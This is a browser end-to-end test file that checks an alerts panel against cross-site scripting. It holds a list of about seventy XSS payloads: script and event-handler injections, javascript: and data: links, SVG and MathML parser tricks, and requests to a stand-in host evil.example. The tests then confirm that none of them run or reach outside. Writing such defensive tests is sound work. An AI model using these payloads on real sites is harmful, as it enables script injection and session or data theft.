import { execute } from '../support/database.js';
import { setUp } from './support/setting.js';

const run = 'window.pwned=1';

/** Attempts to make an alert's text do something; none of them is ours to thank for. */
const PAYLOADS = [
  `<script>${run}</script>`,
  `<script src="https://evil.example/x.js"></script>`,
  `</h3><script>${run}</script>`,
  `<img src=x onerror="${run}">`,
  `<img src="https://evil.example/pixel.png">`,
  `<IMG SRC="jav&#x09;ascript:${run}">`,
  `![x](https://evil.example/pixel.png)`,
  `![x](x "onerror=${run}")`,
  `![x"onerror="${run}](x)`,
  `<svg onload="${run}"></svg>`,
  `<svg><script>${run}</script></svg>`,
  `<svg><a xlink:href="javascript:${run}"><text y="20">x</text></a></svg>`,
  `<svg><animate onbegin="${run}" attributeName="x" dur="1s"></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=${run}>#x"></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img src onerror=${run}>`,
  `<math><mi//xlink:href="data:x,<script>${run}</script>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${run}>`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  `<listing>&lt;img src=x onerror=${run}&gt;</listing>`,
  `<template><img src=x onerror=${run}></template>`,
  `<xmp><p title="</xmp><img src=x onerror=${run}>">`,
  `<iframe src="javascript:parent.${run}"></iframe>`,
  `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
  `<object data="javascript:${run}"></object>`,
  `<embed src="javascript:${run}">`,
  `<form action="https://evil.example"><input type=submit autofocus onfocus="${run}"></form>`,
  `<input autofocus onfocus="${run}">`,
  `<button formaction="javascript:${run}">click</button>`,
  `<details open ontoggle="${run}"><summary>x</summary></details>`,
  `<video><source onerror="${run}"></video>`,
  `<body onload="${run}">`,
  `<base href="https://evil.example/">`,
  `<meta http-equiv="refresh" content="0;url=javascript:${run}">`,
  `<link rel=stylesheet href="https://evil.example/x.css">`,
  `<style>@import "https://evil.example/x.css"; * { display: none }</style>`,
  `<p style="background:url(https://evil.example/x)">x</p>`,
  `<a href="javascript:${run}">x</a>`,
  `[x](javascript:${run})`,
  `[x](JaVaScRiPt:${run})`,
  `[x](<java\nscript:${run}>)`,
  `[x](java&#x73;cript:${run})`,
  `[x](&#106;avascript:${run})`,
  `[x](&Tab;javascript:${run})`,
  `[x](javascript&colon;${run})`,
  `[x](\u0001javascript:${run})`,
  `[x](vbscript:${run})`,
  `[x](data:text/html,<script>parent.${run}</script>)`,
  `[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)`,
  `[x](blob:https://evil.example/1)`,
  `[x](file:///etc/passwd)`,
  `[x](//evil.example)`,
  `[x](/api/data/alerts)`,
  `<javascript:${run}>`,
  `[x][r]\n\n[r]: javascript:${run} "title"`,
  `[x](https://a.example" onmouseover="${run})`,
  `[x](https://a.example 'a" onclick="${run}')`,
  `[a](javascript:${run} "[b](https://a.example)")`,
  '`<img src=x onerror=' + run + '>`',
  '```html onclick=' + run + `\n<script>${run}</script>\n\`\`\``,
  `<!--><img src=x onerror=${run}>-->`,
  `<![CDATA[<img src=x onerror=${run}>]]>`,
  `<a href="https://a.example" target="_self" onclick="${run}">x</a>`,
  '${' + run + '}',
  `{{constructor.constructor('${run}')()}}`,
  `|a|\n|-|\n|<img src=x onerror=${run}>|`,
  `- <img src=x onerror=${run}>\n- [x](javascript:${run})`,
  `# <img src=x onerror=${run}>`,
  `\u202e<img src=x onerror=${run}>`,
  `lit$1234567890$<img src=x onerror=${run}>`,
  `<?lit$1234567890$?>`,
];

const TAGS =
  'A,BLOCKQUOTE,BR,BUTTON,CODE,DEL,DIV,EM,H2,H3,HR,LI,OL,P,PATH,PRE,SECTION,SPAN,STRONG,SVG,TABLE,TBODY,TD,TH,TIME,TR,UL';

describe('The text of an alert', () => {
  const setting = setUp();

  it(`does nothing but stand there, in ${PAYLOADS.length} attempts`, async () => {
    await setting.backend.fire(
      ...PAYLOADS.map((payload, index) => ({
        user: 'ann',
        session: 's-1',
        name: `n-${index}`,
        title: payload,
        message: payload,
        severity: payload,
        runbookUrl: index % 2 ? `javascript:${run}` : payload,
      })),
    );
    // The server keeps no such addresses; another one might.
    const changed = await execute(
      setting.backend.databaseUrl,
      `UPDATE session_alerts.alerts
          SET runbook_url = CASE WHEN event_type ~ '[13579]$' THEN $1 ELSE title END
        WHERE runbook_url IS NULL RETURNING id`,
      [`javascript:${run}`],
    );
    expect(changed).toHaveLength(PAYLOADS.length);
    const away: string[] = [];
    const session = await setting.open({
      prepare: async (page) => {
        await page.route('**/*', (route) => {
          const { origin } = new URL(route.request().url());
          if (origin === setting.backend.url) return route.fallback();
          away.push(route.request().url());
          return route.abort();
        });
        page.on('popup', (popup) => away.push(popup.url()));
        page.on('dialog', (dialog) => {
          away.push(dialog.message());
          void dialog.dismiss();
        });
      },
    });
    const { page } = session;
    await session.alerts.first().waitFor();
    while (await page.getByRole('button', { name: /^Show \d+ more$/ }).count()) {
      await page.getByRole('button', { name: /^Show \d+ more$/ }).click();
    }
    expect(await session.alerts.count()).toBe(PAYLOADS.length);

    // Titles and severities are what was sent, to the letter.
    const texts = await session.alerts.evaluateAll((alerts) =>
      alerts.map((alert) => [
        alert.querySelector('h3')?.textContent,
        alert.querySelector('.severity')?.textContent,
      ]),
    );
    expect(texts).toEqual(PAYLOADS.toReversed().map((payload) => [payload, payload.trim()]));

    const found = await session.panel.evaluate((panel, tags) => {
      const allowed = new Set(tags.split(','));
      const wrong: string[] = [];
      const elements = [...panel.querySelectorAll('*')];
      for (const element of elements) {
        if (!allowed.has(element.tagName.toUpperCase())) wrong.push(element.outerHTML);
        for (const { name, value } of element.attributes) {
          if (/^on|^style$|^src|action|^xlink/i.test(name)) wrong.push(`${name}=${value}`);
        }
        if (element instanceof HTMLAnchorElement) {
          const isSafe =
            /^(?:https?|mailto):/.test(element.href) &&
            element.getAttribute('href') === element.getAttribute('href')?.trim();
          if (!isSafe || element.target !== '_blank' || element.rel !== 'noopener noreferrer')
            wrong.push(element.outerHTML);
        }
      }
      // What reacts to being touched does so now.
      for (const element of elements) {
        if (element instanceof HTMLElement && !element.closest('button, a[href^=http], a[href^=mailto]')) {
          element.dispatchEvent(new MouseEvent('mouseover', { bubbles: true }));
          element.click();
        }
      }
      return wrong;
    }, TAGS);
    expect(found).toEqual([]);

    await page.waitForTimeout(500);
    expect(await page.evaluate(() => (window as unknown as { pwned?: unknown }).pwned)).toBeUndefined();
    expect(away).toEqual([]);

    // Nor does it in what was earlier, and in what is said aloud.
    await session.button('Earlier').click();
    await setting.backend.resolve(
      ...PAYLOADS.map((_payload, index) => ({ user: 'ann', session: 's-1', name: `n-${index}` })),
    );
    await session.panel.locator('.ended').nth(40).waitFor();
    await page.waitForTimeout(300);
    expect(await page.evaluate(() => (window as unknown as { pwned?: unknown }).pwned)).toBeUndefined();
    expect(away).toEqual([]);
  });

  it('does nothing in any of several series either', async () => {
    const asked: string[] = [];
    const series = PAYLOADS.map((payload, index) => ({
      title: payload,
      message: payload,
      severity: payload,
      starts_at: payload,
      runbook_url: index % 2 ? `javascript:${run}` : payload,
    }));
    const alerts = Array.from({ length: Math.ceil(series.length / 19) }, (_, index) => ({
      id: `a-${index}`,
      title: 'Several',
      escalated_date: PAYLOADS[index],
      series: [{ title: 'Several' }, ...series.slice(index * 19, (index + 1) * 19)],
      series_count: `<img src=x onerror="${run}">`,
    }));
    const session = await setting.open({
      prepare: async (page) => {
        await page.route('**/*', (route) => {
          const { origin, pathname } = new URL(route.request().url());
          if (pathname.endsWith('/stream')) return route.abort();
          if (pathname.endsWith('/alerts')) {
            return route.fulfill({
              json: alerts,
              headers: { 'X-Total-Count': `<img src=x onerror="${run}">` },
            });
          }
          if (origin === setting.backend.url) return route.fallback();
          asked.push(route.request().url());
          return route.abort();
        });
      },
    });
    await session.alerts.nth(alerts.length - 1).waitFor();
    const titles = await session.panel.locator('.series .title').allTextContents();
    expect(titles).toEqual(PAYLOADS);
    const wrong = await session.panel.evaluate((panel, tags) => {
      const allowed = new Set(tags.split(','));
      return [...panel.querySelectorAll('*')]
        .filter(
          (element) =>
            !allowed.has(element.tagName.toUpperCase()) ||
            [...element.attributes].some(({ name }) => /^on|^style$|^src|action|^xlink/i.test(name)) ||
            (element instanceof HTMLAnchorElement && !/^(?:https?|mailto):/.test(element.href)),
        )
        .map(({ outerHTML }) => outerHTML);
    }, TAGS);
    expect(wrong).toEqual([]);
    expect(
      await session.page.evaluate(() => (window as unknown as { pwned?: unknown }).pwned),
    ).toBeUndefined();
    expect(asked).toEqual([]);
  });

  it('works under a policy that forbids all that pages forbid', async () => {
    await setting.backend.fire({
      user: 'ann',
      session: 's-1',
      name: 'n',
      title: 'High memory usage',
      message: '**94 %**, see [here](https://a.example)',
    });
    const violations: string[] = [];
    const session = await setting.open({
      policy:
        "default-src 'none'; connect-src 'self'; script-src 'self' 'nonce-test'; require-trusted-types-for 'script'; trusted-types lit-html",
      prepare: (page) => {
        page.on('console', (message) => {
          if (message.text().includes('Content Security Policy')) violations.push(message.text());
        });
        return Promise.resolve();
      },
    });
    await session.alert('High memory usage').locator('strong').waitFor();
    expect(violations).toEqual([]);
  });
});
